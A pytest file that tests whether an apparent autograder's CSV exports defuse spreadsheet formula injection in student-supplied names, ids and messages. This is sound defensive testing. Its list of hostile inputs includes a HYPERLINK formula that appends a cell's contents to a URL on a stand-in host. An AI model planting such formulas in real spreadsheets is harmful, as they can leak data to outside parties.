"""Every CSV the course writes opens in a spreadsheet as text (``autograder.course.spreadsheet``): a
cell a student chose never starts as a formula does, "-" and digits (``-2+3``) too, and the numbers the
course writes stay numbers. Each writer is given the same hostile names, ids and messages."""

import csv

import pytest

from autograder.grading import host, lms_names
from autograder.outputs import items, lms, report
from autograder.similar import Pair, write_csv

# As a spreadsheet would run them: a sum, a link out, a function, and a formula after a tab or a CR.
HOSTILE = ["-2+3", '=HYPERLINK("http://x.example/?"&A1)', "@SUM(1+1)", "+1-1", "\t=1+1", "\r=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def grades_csv(path):
    rows = [
        {"assignment": "01", "notebook": "nb", "student": text, "score": 1.5, "max_score": 2.0, "manual": 0.0}
        | {"late": text, "status": text}
        for text in HOSTILE
    ]
    host.write_csv(rows, path)


def report_csv(path):
    rows = [
        {"student": text, "notebook": "nb", "score": 1.5, "max_score": 2.0, "late": text, "status": text}
        for text in HOSTILE
    ]
    report._write_scores(rows, [], "01", path, path.with_suffix(".png"))


def item_rows():
    return [
        {column: 0 for column in items.COLUMNS}
        | {"notebook": "nb", "cell": "c", "mean_score": 1.5, "message_1": text, "mistakes": {text: 1}}
        for text in HOSTILE
    ]


def totals():
    students = {
        f"-{number}-1": lms.Student(
            f"-{number}-1", name=text, first_name=text, last_name=text, email=text, section=text, id_number=text
        )
        for number, text in enumerate(HOSTILE)
    }
    return lms.Totals("01", 2.0, dict.fromkeys(students, 1.5), {}, students, dict.fromkeys(students, "-1-1"))


def mapping_csv(path):
    handins = [
        lms_names.LmsHandin("Canvas", str(number), text, student=f"-{number}-1") for number, text in enumerate(HOSTILE)
    ]
    written = lms_names.record(path.parent, handins)
    written.rename(path)


# {CSV: (how it is written, a number it holds, as written)}
WRITERS = {
    "grades.csv": (grades_csv, "1.5"),
    "report's scores": (report_csv, "1.5"),
    "items": (lambda path: items.write_items(item_rows(), path), "1.5"),
    "mistakes": (lambda path: items.write_mistakes(item_rows(), path), "1"),
    "Canvas": (lambda path: lms.write_canvas(totals(), path), "1.5"),
    "Moodle": (lambda path: lms.write_moodle(totals(), path), "1.5"),
    "lms_students.csv": (mapping_csv, "0"),  # a Canvas user id
    "similar": (
        lambda path: write_csv([Pair(text, f"-{n}-1", 0.5, (0.5, 0.25)) for n, text in enumerate(HOSTILE)], path),
        "0.250",
    ),
}


@pytest.mark.parametrize("name", WRITERS)
def test_no_cell_a_student_chose_starts_as_a_formula(tmp_path, name):
    path = tmp_path / "out.csv"
    write, number = WRITERS[name]
    write(path)
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], rows
    assert {f"'{text}" for text in HOSTILE} & set(cells), rows  # the students' texts are there, as text
    assert number in cells, rows


def test_a_number_stays_a_number_and_text_like_one_is_text(tmp_path):
    """A negative score is the course's own number; "-1" a student typed is text."""
    from autograder.course import spreadsheet  # here: the other tests show what each CSV did without it

    with open(tmp_path / "out.csv", "w", newline="") as handle:
        writer = spreadsheet.DictWriter(handle, fieldnames=["score", "name"])
        writer.writerow({"score": -1.5, "name": "-1"})
    assert (tmp_path / "out.csv").read_text().splitlines() == ["-1.5,'-1"]


def test_the_student_id_mapping_reads_back_the_ids_it_wrote(tmp_path):
    """lms_students.csv is read again next week (by ``record`` itself) and by ``report --students``: an id
    written as text ("-1-1") is read as the same id, and a name keeps its own spelling."""
    handins = [lms_names.LmsHandin("Canvas", "7", "=1+1", student="-1-1")]
    path = lms_names.record(tmp_path, handins)
    assert lms.read_mapping(path)["-1-1"]["name"] == "=1+1"
    assert lms.read_mapping(path)["-1-1"]["canvas_id"] == "7"
    lms_names.record(tmp_path, handins)  # read and written again: the same rows, no second mark
    assert list(lms.read_mapping(path)) == ["-1-1"] and "''" not in path.read_text()
